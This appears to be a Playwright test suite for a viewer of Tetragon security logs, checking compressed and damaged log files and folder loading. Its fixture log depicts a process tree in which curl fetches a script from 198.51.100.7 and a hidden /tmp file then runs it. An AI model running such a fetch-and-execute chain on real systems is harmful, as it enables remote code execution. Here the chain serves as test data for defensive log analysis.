/** What a log may come wrapped in, and many files at once. */
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { drawLog } from '../src/testing/draw-log'
import { utf16, zstdFrame, zstdSkippable } from '../src/testing/wrap-bytes'
import { SINGLE_FILE_URL } from './helpers/paths'
import { expect, test } from './helpers/test'
import type { Viewer } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 3s..8s
        13 /usr/bin/id 4s..5s
`)
const other = drawLog('host n2\n 20 /usr/bin/sshd 0s..')
const textOf = (lines: readonly string[]): string => lines.map((line) => `${line}\n`).join('')
const half = log.lines.length / 2
const first = textOf(log.lines.slice(0, half))
const second = textOf(log.lines.slice(half))

/** All of `log` is there and nothing else, and raw JSON can be read again. */
async function expectWholeLog(viewer: Viewer): Promise<void> {
  await expect(viewer.status).toContainText(`4 processes${log.lines.length} events`)
  await expect(viewer.status).toContainText('nothing is known to be missing')
  await expect(viewer.notices).toHaveCount(0)
  await viewer.selectRow('/usr/bin/id')
  await viewer.page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(viewer.page.getByRole('tabpanel')).toContainText('"process_exec"')
}

const WRAPPED: Readonly<Record<string, Uint8Array>> = {
  'gzip of two members': Buffer.concat([gzipSync(first), gzipSync(second)]),
  'gzip of many small members, with padding': Buffer.concat([
    ...log.lines.map((line) => gzipSync(`${line}\n`)),
    gzipSync(''),
    Buffer.alloc(3000),
  ]),
  'gzip of gzip': gzipSync(gzipSync(log.text)),
  'gzip of UTF-16': gzipSync(utf16(log.text, 'le')),
  'zstd of two frames': Buffer.concat([
    zstdFrame(Buffer.from(first)),
    zstdSkippable(Buffer.from('between')),
    zstdFrame(Buffer.from(second)),
  ]),
  'UTF-16 without a mark': utf16(log.text, 'be', false),
}

test('a log is read however it is wrapped', async ({ viewer, folder }) => {
  await viewer.goto()
  for (const [name, content] of Object.entries(WRAPPED)) {
    await test.step(name, async () => {
      await viewer.closeLog()
      await viewer.openFiles(await folder.write('tetragon.log', content))
      await expectWholeLog(viewer)
    })
  }
})

test('the single file reads zstd and gzip of several members too', async ({ viewer, page, folder }) => {
  await page.goto(SINGLE_FILE_URL)
  for (const name of ['zstd of two frames', 'gzip of two members']) {
    await viewer.closeLog()
    await viewer.openFiles(await folder.write('tetragon.log', WRAPPED[name]))
    await expectWholeLog(viewer)
  }
})

test('what is damaged is read up to the damage, and said to be', async ({ viewer, folder }) => {
  const many = first.repeat(3000)
  const packed = gzipSync(many)
  const damaged: Readonly<Record<string, readonly [Uint8Array, RegExp]>> = {
    'cut.log.gz': [packed.subarray(0, packed.length * 0.7), /^cut\.log\.gz is damaged after.*is cut off/],
    'tail.log.gz': [Buffer.concat([packed, Buffer.from('more')]), /^tail\.log\.gz is damaged.*something else follows/],
    'cut.log.zst': [
      zstdFrame(Buffer.from(many)).subarray(0, many.length * 0.5),
      /^cut\.log\.zst is damaged.*is cut off/,
    ],
  }
  await viewer.goto()
  for (const [name, [content, notice]] of Object.entries(damaged)) {
    await test.step(name, async () => {
      await viewer.closeLog()
      await viewer.openFiles(await folder.write(name, content))
      await expect(viewer.notices).toHaveText([notice])
      await expect(viewer.row('/bin/bash')).toBeVisible()
    })
  }
  // nothing that came before what follows is lost
  await viewer.closeLog()
  await viewer.openFiles(await folder.write('all.gz', Buffer.concat([gzipSync(log.text), Buffer.from('more')])))
  await expect(viewer.status).toContainText(`4 processes${log.lines.length} events`)
})

test('a folder is opened with its rotated files in order; what is hidden or no log is named with the reason', async ({
  viewer,
  page,
  folder,
}) => {
  const logs = join(folder.path, 'tetragon')
  await mkdir(join(logs, '.cache'), { recursive: true })
  await mkdir(join(logs, 'old'))
  await writeFile(join(logs, 'tetragon-2.log'), second)
  await writeFile(join(logs, 'tetragon-10.log.zst'), zstdFrame(Buffer.from(other.text)))
  await writeFile(join(logs, 'old', 'tetragon-1.log.gz'), gzipSync(first))
  await writeFile(join(logs, '.cache', 'x'), 'x')
  await writeFile(join(logs, '.DS_Store'), 'x')
  await writeFile(join(logs, 'photo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10]))
  const opened = async (): Promise<void> => {
    await expect(viewer.status).toContainText('5 processes')
    await viewer.waitForIdle()
    await expect(page.getByRole('banner')).toContainText('4 files')
    await expect(viewer.notices).toHaveText([
      /^tetragon\/photo\.png is a PNG image/,
      /^2 items of the folder were left out: .*tetragon\/\.cache \(hidden\)/,
    ])
    const names = await page.locator('.chip').first().getAttribute('title')
    expect(names?.split('\n').map((line) => line.split(' · ')[0])).toEqual([
      'tetragon/old/tetragon-1.log.gz',
      'tetragon/photo.png',
      'tetragon/tetragon-2.log',
      'tetragon/tetragon-10.log.zst',
    ])
  }
  await viewer.goto()
  await viewer.dropPaths(logs)
  await opened()
  await viewer.button('Close log').click()
  await viewer.pickWith(viewer.button('Open a folder'), logs)
  await opened()
})

test('a folder that holds nothing to open says so on the welcome page', async ({ viewer, folder }) => {
  await mkdir(join(folder.path, 'empty'))
  await viewer.goto()
  await viewer.dropPaths(join(folder.path, 'empty'))
  await expect(viewer.notices).toHaveText([/^1 item of the folder was left out: empty \(an empty folder\)/])
  await viewer.button('Dismiss').click()
  await expect(viewer.notices).toHaveCount(0)
})

test('the same file dropped twice is noticed, and can be opened again all the same', async ({ viewer, folder }) => {
  const path = await folder.write('tetragon.log', log.text)
  await viewer.goto()
  await viewer.openFiles(path)
  await viewer.dropFiles(
    { name: 'tetragon.log', content: log.text },
    { name: 'copy.log', content: log.text },
    { name: 'other.log', content: other.text },
  )
  await expect(viewer.status).toContainText('5 processes')
  await expect(viewer.notices).toHaveText([
    /^copy\.log is already open, as tetragon\.log: it was not loaded/,
    /^tetragon\.log is already open: it was not loaded/,
  ])
  await viewer.waitForIdle()
  await expect(viewer.status).toContainText(`${log.lines.length + other.lines.length} events`)
  await expect(viewer.page.getByRole('banner')).toContainText('2 files')

  await viewer.button('Open it again').first().click()
  await expect(viewer.page.getByRole('banner')).toContainText('3 files')
  await viewer.waitForIdle()
  await expect(viewer.notices).toHaveCount(1)
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(viewer.page.getByRole('dialog')).toContainText(`${log.lines.length} duplicates`)
})

test('more files than are read at once are all read', async ({ viewer }) => {
  const files = Array.from({ length: 12 }, (_, i) => ({
    name: `tetragon-${i}.log`,
    content: drawLog(`host n${i}\n ${i + 1} /bin/true 0s..1s`).text,
  }))
  await viewer.goto()
  await viewer.dropFiles(...files)
  await expect(viewer.status).toContainText('12 processes')
  await viewer.waitForIdle()
  await expect(viewer.status).toContainText('12 nodes')
})
